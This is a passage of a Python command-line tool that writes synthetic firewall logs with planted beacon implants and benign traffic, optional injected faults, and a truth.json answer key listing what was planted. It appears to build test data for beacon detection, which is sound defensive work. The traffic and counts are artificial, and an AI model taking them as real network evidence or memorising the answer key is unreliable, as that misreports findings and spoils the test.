            f"unknown fault {', '.join(unknown)}; there are: all, {', '.join(FAULT_OPTIONS)}."
        )
    if end_date < dt.date(1970, 1, 1) + dt.timedelta(days):
        raise GeneratorError(f"{days} days up to {end_date} begin before 1970; give a later end.")
    missing = _missing_day(faults, days)
    _prepare_folder(out, overwrite)

    world = _build_world(np.random.default_rng([seed, 0]), rows_per_day)
    rng = np.random.default_rng([seed, 3])
    implants = np.concatenate(
        [_implant_rows(rng, world, implant, n, days) for n, implant in enumerate(IMPLANTS)]
    )
    implants_day = implants["tick"] // (DAY_SECONDS * TICKS)
    implant_entries, benign_entries = _entries(world)
    entries = implant_entries + benign_entries
    planted_pairs = [entry.source << 32 | entry.destination for entry in entries]
    renderer = Renderer(world, seed)
    writer = _Writer(out / EXPORT_ROOT, seed, faults)
    all_days = [end_date - dt.timedelta(days=days - 1 - number) for number in range(days)]
    rows_by_day = {str(day): 0 for day in all_days}
    for entry in entries:
        entry.events_by_day = dict(rows_by_day)
    table = np.zeros((len(GATEWAYS), len(Direction), len(Log)), np.int64)
    row_count = 0

    with Progress(console=Console(stderr=True), disable=not show_progress) as progress:
        task = progress.add_task("Writing logs", total=days * SLOTS)
        for number, day in enumerate(all_days):
            progress.update(task, completed=number * SLOTS)
            if number == missing:
                continue
            today = implants[implants_day == number]
            today["tick"] -= number * DAY_SECONDS * TICKS
            rng = np.random.default_rng([seed, 1, number])
            rows = _compose_day(rng, world, rows_per_day, skew, number == days - 1, today)
            pairs = rows["source"].astype(np.int64) << 32 | rows["destination"]
            rows["planted"] = np.isin(pairs, planted_pairs)
            planted = rows[rows["planted"]]
            for entry in entries:
                entry.count(day, planted)
            np.add.at(table, (world.gateway_of(rows), rows["direction"], rows["log"]), 1)
            rows_by_day[str(day)] = len(rows)
            has_next_day = number + 1 < days and number + 1 != missing
            edges = np.searchsorted(rows["tick"], np.arange(SLOTS + 1) * SLOT_SECONDS * TICKS)
            for slot in range(SLOTS):
                part = rows[edges[slot] : edges[slot + 1]]
                lines = renderer.lines(part, day, number, slot, row_count)
                writer.folder(day, number, slot, lines, part["planted"], has_next_day)
                row_count += len(part)
                progress.advance(task)

    kinds = {kind: fault for kind, fault in FAULTS.items() if fault.option in faults}
    not_clean = sum(writer.lines_by_kind[kind] for kind, fault in kinds.items() if not fault.added)
    truth = {
        "made_by": MADE_BY,
        "complete": True,
        "parameters": {
            "end_date": str(end_date),
            "days": days,
            "rows_per_day": rows_per_day,
            "seed": seed,
            "skew": skew.value,
            "faults": [option for option in FAULT_OPTIONS if option in faults],
        },
        "root": EXPORT_ROOT,
        "first_day": str(all_days[0]),
        "last_day": str(all_days[-1]),
        "missing_day": None if missing is None else str(all_days[missing]),
        "rows": row_count,
        "lines": writer.lines,
        "files": writer.files_by_name.total(),
        "files_by_name": dict(sorted(writer.files_by_name.items())),
        "lines_by_kind": {
            "clean": {"lines": row_count - not_clean, "expect": "row"},
            **{
                kind: {"lines": writer.lines_by_kind[kind], "expect": fault.expect}
                for kind, fault in kinds.items()
            },
        },
        "rows_by_day": rows_by_day,
        **_count_by_vendor(table),
        "implants": [entry.as_dict(world) for entry in implant_entries],
        "benign": [entry.as_dict(world) for entry in benign_entries],
    }
    (out / "truth.json").write_text(_truth_text(truth), "utf-8")
    return truth


def _count_by_vendor(table: np.ndarray) -> dict[str, dict[str, Any]]:
    totals: Counter[str] = Counter()
    detail: dict[str, Any] = {}
    for (gateway, direction, log), count in np.ndenumerate(table):
        if count:
            vendor = GATEWAYS[gateway].vendor
            totals[vendor] += int(count)
            logs = detail.setdefault(vendor, {}).setdefault(Direction(direction).name.lower(), {})
            name = Log(log).name.lower()
            logs[name] = logs.get(name, 0) + int(count)
    return {"rows_by_vendor": dict(totals), "rows_by_vendor_direction_and_log": detail}


# ---------------------------------------------------------------------------- the command line


def main(
    out: Annotated[Path, typer.Argument(help="Folder for the logs; empty or absent.")],
    end_date: Annotated[
        dt.datetime, typer.Option(formats=["%Y-%m-%d"], help="Last day; implants are active on it.")
    ] = dt.datetime(2026, 9, 30),  # noqa: B008
    days: Annotated[int, typer.Option(min=1, max=366, help="Days up to the last one.")] = 4,
    rows_per_day: Annotated[
        int, typer.Option(min=MINIMUM_ROWS_PER_DAY, help="Rows a day, without the implants.")
    ] = 40_000,
    seed: Annotated[
        int, typer.Option(min=0, help="The same seed and options give the same bytes.")
    ] = 7,
    skew: Annotated[
        Skew, typer.Option(help="What half of the background events have in common.")
    ] = Skew.NONE,
    faults: Annotated[
        str, typer.Option(help=f"all, or a comma list of: {', '.join(FAULT_OPTIONS)}.")
    ] = "",
    overwrite: Annotated[
        bool, typer.Option("--overwrite", help="Replace logs that this program wrote to OUT.")
    ] = False,
) -> None:
    """Write firewall logs with planted beacons, as Log Analytics data export writes them.

    Prints the folder that holds the y= folders, then first and last day and the number of rows.
    What is planted, and how many lines there are of each kind, is in OUT/truth.json.
    """
    names = frozenset(name.strip() for name in faults.split(",") if name.strip())
    try:
        truth = generate(
            out,
            end_date=end_date.date(),
            days=days,
            rows_per_day=rows_per_day,
            seed=seed,
            skew=skew,
            faults=frozenset(FAULT_OPTIONS) if names == {"all"} else names,
            overwrite=overwrite,
            show_progress=sys.stderr.isatty(),
        )
    except GeneratorError as error:
        typer.echo(f"Error: {error}", err=True)
        raise typer.Exit(2) from None
    except OSError as error:
        typer.echo(f"Error: can not write {error.filename or out}: {error.strerror}.", err=True)
        raise typer.Exit(1) from None
    typer.echo(out.absolute() / truth["root"])
    typer.echo(f"{truth['first_day']} {truth['last_day']} {truth['lines']} rows")
